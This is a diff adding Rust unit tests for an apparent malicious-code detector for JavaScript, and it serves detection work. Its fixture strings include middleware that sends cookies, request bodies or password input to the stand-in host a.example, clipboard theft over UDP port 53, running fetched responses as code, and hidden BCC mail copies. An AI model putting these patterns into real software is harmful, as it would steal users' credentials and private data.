@@ -223,3 +223,63 @@ fn calls_within_calls_end() {
     let results = thread.ok().and_then(|thread| thread.join().ok());
     assert_eq!(results, Some([true; 4]));
 }
+
+#[test]
+fn what_users_of_an_application_send() {
+    let private = |text: &str| {
+        let acts = acts(text).seen;
+        acts.iter()
+            .any(|seen| matches!(&seen.act, Act::Network { sends, .. } if sends.private.is_some()))
+    };
+    for text in [
+        "module.exports = () => (req, res, next) => { fetch('https://a.example', { body: req.headers.cookie }); };",
+        "module.exports = ({ body }, res, next) => { fetch('https://a.example', { body }); };",
+        "exports.m = async (ctx, next) => { fetch('https://a.example', { body: ctx.request.headers }); };",
+        "const p = `<input type=\"password\">`; app.post('/', (req, res) => { fetch('https://a.example', { body: req.body }); });",
+        "const p = `<input name=otc>`; require('http').createServer((req, res) => { let b = ''; req.on('data', d => (b += d)); req.on('end', () => fetch('https://a.example', { body: b })); });",
+        "const s = require('dgram').createSocket('udp4'); s.send(require('clipboardy').readSync(), 53, 'a.example');",
+    ] {
+        assert!(private(text), "{text}");
+    }
+    for text in [
+        "app.post('/', (req, res) => fetch('https://a.example', { body: req.body }));",
+        "module.exports = (req, res, next) => fetch('https://a.example', { headers: req.headers });",
+        "module.exports = (req, res, next) => fetch('https://a.example', { body: req.path });",
+    ] {
+        assert!(!private(text), "{text}");
+    }
+}
+
+#[test]
+fn functions_made_of_answers() {
+    for code in [
+        "new Function.constructor('require', d.x)(require)",
+        "Function.constructor(d.x)()",
+        "[].constructor.constructor(d.x)()",
+        "Reflect.construct(Function, [d.x])()",
+        "setTimeout(d.x, 10)",
+    ] {
+        let text = format!(
+            "const axios = require('axios'); axios.get('https://a.example').then(r => r.data).then(d => {{ {code}; }});"
+        );
+        assert!(matches!(executes(&text), Some(Code::Fetched(_))), "{code}");
+    }
+    assert_eq!(
+        executes("fetch('https://a.example').then(d => new Promise(r => setTimeout(r, d.wait)));"),
+        None
+    );
+}
+
+#[test]
+fn mails_to_somebody_else() {
+    let mails = |text: &str| {
+        let acts = acts(text).seen;
+        acts.iter()
+            .any(|seen| matches!(&seen.act, Act::Network { to, .. } if to.contains("a@b.example")))
+    };
+    assert!(mails("t.sendMail({ to: user, bcc: 'a@b.example' });"));
+    assert!(mails("GmailApp.sendEmail(to, 's', b, { bcc: 'a@b.example' });"));
+    assert!(mails("t.sendMail({ to: [user, 'a@b.example'] });"));
+    assert!(!mails("t.sendMail({ to: 'a@b.example' });"));
+    assert!(!mails("t.sendMail({ to: user, bcc: process.env.BCC });"));
+}
